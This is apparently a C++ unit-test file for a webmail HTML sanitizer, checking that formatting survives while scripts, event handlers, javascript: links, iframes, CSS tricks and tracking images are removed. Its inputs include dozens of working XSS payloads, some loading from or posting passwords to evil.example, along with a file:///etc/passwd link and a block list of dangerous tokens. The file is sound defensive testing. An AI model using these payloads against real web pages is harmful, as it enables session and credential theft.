// Hostile HTML, class by class as web mails have met it, and the plain mail that must survive.
#include "native/relay/html/sanitize.hpp"

#include <gtest/gtest.h>

#include <chrono>

#include "native/relay/html/css.hpp"

namespace kontor::html {
namespace {

Images blocked_images() {
    Images images;
    images.inline_image = [](std::string_view id) -> std::optional<std::string> {
        if (id == "logo@x") return "/jmap/download/a1/b2_2/image";
        return std::nullopt;
    };
    return images;
}

std::string clean(std::string_view html) { return sanitize(html, blocked_images()).html; }

bool contains(std::string_view text, std::string_view part) { return text.find(part) != std::string_view::npos; }

TEST(Sanitize, KeepsHowAMailLooks) {
    EXPECT_EQ(clean("<p align=\"center\" style=\"color: red; margin:0\">Hi <b>you</b> &eacute;</p>"),
              "<p align=\"center\" style=\"color:red;margin:0\">Hi <b>you</b> &eacute;</p>");
    EXPECT_EQ(clean("<table width=600 cellpadding='3'><tr><td bgcolor=#fff>x</td></tr></table>"),
              "<table width=\"600\" cellpadding=\"3\"><tr><td bgcolor=\"#fff\">x</td></tr></table>");
    EXPECT_EQ(clean("<html><head><title>t</title></head><body bgcolor=\"#eee\">x</body></html>"),
              "<div bgcolor=\"#eee\">x</div>");
    EXPECT_EQ(clean("a < b && c > d"), "a &lt; b && c &gt; d");
    EXPECT_EQ(clean("<o:p>Word</o:p><center>old</center>"), "Word<center>old</center>");
}

TEST(Sanitize, ClosesWhatIsOpen) {
    EXPECT_EQ(clean("<div><b>x"), "<div><b>x</b></div>");
    EXPECT_EQ(clean("</div></td>x</b>"), "x");
    EXPECT_EQ(clean("<table><tr><td>x</div></td></tr></table>"), "<table><tr><td>x</td></tr></table>");
}

TEST(Sanitize, LeavesNoWayToRunAScript) {
    for (const char* attack : {
             "<script>alert(1)</script>",
             "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
             "<scr<script>ipt>alert(1)</script>",
             "<img src=x onerror=alert(1)>",
             "<img/src=x/onerror=alert(1)>",
             "<img src='x'onerror=alert(1)>",
             "<body onload=alert(1)>",
             "<svg><script>alert(1)</script></svg>",
             "<svg onload=alert(1)>",
             "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
             "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
             "<svg><style><img src=x onerror=alert(1)></style></svg>",
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
             "<a href=\"javascript:alert(1)\">x</a>",
             "<a href=\"java\tscript:alert(1)\">x</a>",
             "<a href=\" &#14; javascript:alert(1)\">x</a>",
             "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
             "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
             "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
             "<a href=\"vbscript:x\">x</a>",
             "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
             "<iframe src=\"https://evil.example\"></iframe>",
             "<iframe srcdoc=\"<script>alert(1)</script>\">",
             "<object data=\"evil.swf\"></object><embed src=x>",
             "<form action=\"https://evil.example\"><input name=password><button "
             "formaction=javascript:alert(1)>x</button></form>",
             "<base href=\"https://evil.example/\">",
             "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
             "<link rel=stylesheet href=\"https://evil.example/x.css\">",
             "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
             "<div style=\"background:url(javascript:alert(1))\">x</div>",
             "<div style=\"width:expression(alert(1))\">x</div>",
             "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">x</div>",
             "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
             "<!--><img src=x onerror=alert(1)>-->",
             "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
             "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
             "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
             "<template><img src=x onerror=alert(1)></template>",
             "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
             "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
             "<img alt=\"`onerror=alert(1)//\" src=\"`\">",
             "<x onclick=alert(1)>x</x>",
             "<marquee onstart=alert(1)>",
             "<details open ontoggle=alert(1)>",
             "<video><source onerror=alert(1)></video>",
             "<%00script>alert(1)</script>",
         }) {
        const std::string html = clean(attack);
        for (const char* bad :
             {"<script", "javascript:", "vbscript:", "<svg", "<iframe", "<form", "<input", "<object", "<style", "<base",
              "<meta", "<link", "<math", "expression(", "url(", "evil.example/x", "srcdoc"}) {
            EXPECT_FALSE(contains(html, bad)) << attack << "\n-> " << html;
        }
        // "on...=" only inside a quoted value or as text, never as an attribute.
        std::string outside;
        bool quoted = false, tag = false;
        for (const char c : html) {
            if (c == '<' && !quoted) tag = true;
            if (c == '"' && tag) quoted = !quoted;
            if (tag && !quoted) outside += c;
            if (c == '>' && !quoted) tag = false;
        }
        EXPECT_FALSE(contains(outside, " on")) << attack << "\n-> " << html;
    }
}

TEST(Sanitize, LinksOpenOutsideAndTellNothing) {
    EXPECT_EQ(clean("<a href=\"https://a.example/?a=1&amp;b=2\" target=_top ping=\"https://t.example\">x</a>"),
              "<a href=\"https://a.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
    EXPECT_TRUE(
        contains(clean("<a href=\"mailto:a@b.example?subject=x\">x</a>"), "href=\"mailto:a@b.example?subject=x\""));
    EXPECT_TRUE(contains(clean("<a href=\"//a.example/x\">x</a>"), "href=\"https://a.example/x\""));
    for (const char* none :
         {"#part", "/relative", "ftp://a.example", "file:///etc/passwd", "tel:1", "cid:logo@x", ""}) {
        EXPECT_FALSE(contains(clean("<a href=\"" + std::string(none) + "\">x</a>"), "href")) << none;
    }
}

TEST(Sanitize, ImagesOfTheMessageShowAndRemoteOnesWait) {
    EXPECT_EQ(clean("<img src=\"cid:logo@x\" width=3>"), "<img src=\"/jmap/download/a1/b2_2/image\" width=\"3\">");
    EXPECT_EQ(clean("<img src=\"cid:unknown\" alt=\"a\">"), "<img alt=\"a\">");
    EXPECT_EQ(clean("<img src=\"data:image/png;base64,AAAA\">"), "<img src=\"data:image/png;base64,AAAA\">");

    // Every one of these is a way to learn that the mail was opened.
    const Sanitized result = sanitize(
        "<img src=\"https://t.example/1.gif\"><img src='//t.example/2.gif'><img srcset=\"https://t.example/3.gif 2x\">"
        "<img lowsrc=\"https://t.example/4.gif\"><table background=\"https://t.example/5.gif\"><td "
        "background=//t.example/6.gif>"
        "<div style=\"background-image:url('https://t.example/7.gif')\"><div style=\"background:#fff "
        "url(//t.example/8.gif)\">"
        "<div style=\"list-style:url(https://t.example/9.gif)\"><input type=image src=\"https://t.example/10.gif\">"
        "<video poster=\"https://t.example/11.gif\"></video><link rel=prefetch href=\"https://t.example/12\">"
        "<div style=\"content:image-set(url(https://t.example/13.gif) 1x)\"><svg><image "
        "href=\"https://t.example/14.gif\"/></svg>"
        "<audio src=\"https://t.example/15.mp3\"></audio><div style='b\\61 ckground:u\\72l(https://t.example/16.gif)'>",
        blocked_images());
    EXPECT_FALSE(contains(result.html, "t.example")) << result.html;
    EXPECT_GE(result.blocked_images, 6u);
}

TEST(Sanitize, RemoteImagesGoThroughTheRelayOnceAsked) {
    Images images;
    images.remote_image = [](std::string_view url) { return "/mail/image?u=" + std::to_string(url.size()); };
    const Sanitized result = sanitize("<img src=\"http://a.example/x.png\"><img src=\"javascript:x\">", images);
    EXPECT_EQ(result.html, "<img src=\"/mail/image?u=22\"><img>");
    EXPECT_EQ(result.blocked_images, 0u);
}

TEST(Sanitize, NamesNothingOfThePageOutside) {
    EXPECT_EQ(clean("<div id=twin class=document name=x data-x=1 contenteditable tabindex=1 is=x slot=y>x</div>"),
              "<div>x</div>");
}

TEST(Sanitize, IsBounded) {
    Limits limits;
    limits.octets = 1000;
    EXPECT_TRUE(sanitize(std::string(2000, 'x'), {}, limits).cut);
    const Sanitized deep = sanitize(
        [] {
            std::string html;
            for (int i = 0; i < 100'000; ++i) html += "<div>";
            return html;
        }(),
        {});
    EXPECT_TRUE(deep.cut);
    EXPECT_LT(deep.html.size(), 256u * 12);
    const Sanitized many = sanitize(
        [] {
            std::string html;
            for (int i = 0; i < 60'000; ++i) html += "<br>";
            return html;
        }(),
        {});
    EXPECT_TRUE(many.cut);
    EXPECT_EQ(many.html.size(), 50'000u * 4);
}

TEST(Sanitize, TakesTimeInProportion) {
    using clock = std::chrono::steady_clock;
    const auto time_of = [](const std::string& unit, std::size_t octets) {
        std::string html;
        while (html.size() < octets) html += unit;
        const auto start = clock::now();
        sanitize(html, {});
        return std::chrono::duration<double>(clock::now() - start).count();
    };
    for (const char* unit : {"<b>", "</b>", "<a href=\"", "<!--", "<!-- --", "<", "&#", "<div style=\"a:b;",
                             "<script></", "<svg>", "x", "<p a=b a=b ", "<table><b></table>", "'\"<x y='"}) {
        const double small = std::max(time_of(unit, 60'000), 0.002), large = time_of(unit, 240'000);
        EXPECT_LT(large, small * 4 * 4) << unit;  // four times the input, and room for a busy machine
    }
}

TEST(Style, KeepsLooksAndDropsReach) {
    EXPECT_EQ(filter_style("color:#fff; font: bold 12px/1.5 'Times', serif;width:calc(100% - 3px)").text,
              "color:#fff;font:bold 12px/1.5 'Times', serif;width:calc(100% - 3px)");
    EXPECT_EQ(filter_style("position:fixed;z-index:9;top:0;color:red").text, "color:red");
    EXPECT_EQ(filter_style("color:red;/* x */margin:0").text, "color:red;margin:0");
    for (const char* bad :
         {"background:url(x)", "color:var(--x)", "width:expression(1)", "color:re\\64", "color:red}body{color:blue",
          "behavior:url(x)", "color:attr(x)", "background:image-set('a' 1x)", "width:/**/expr/**/ession(1)",
          "color:<x>", "@import 'x'", "--x:1", "cursor:url(x)", "filter:url(#x)", "color:env(x)"}) {
        EXPECT_EQ(filter_style(bad).text, "") << bad;
    }
    EXPECT_EQ(filter_style("background:url('https://t.example/a;b.gif');color:red").text, "color:red");
    EXPECT_EQ(filter_style("background:url(https://t.example/)").remote_urls, 1u);
}

}  // namespace
}  // namespace kontor::html
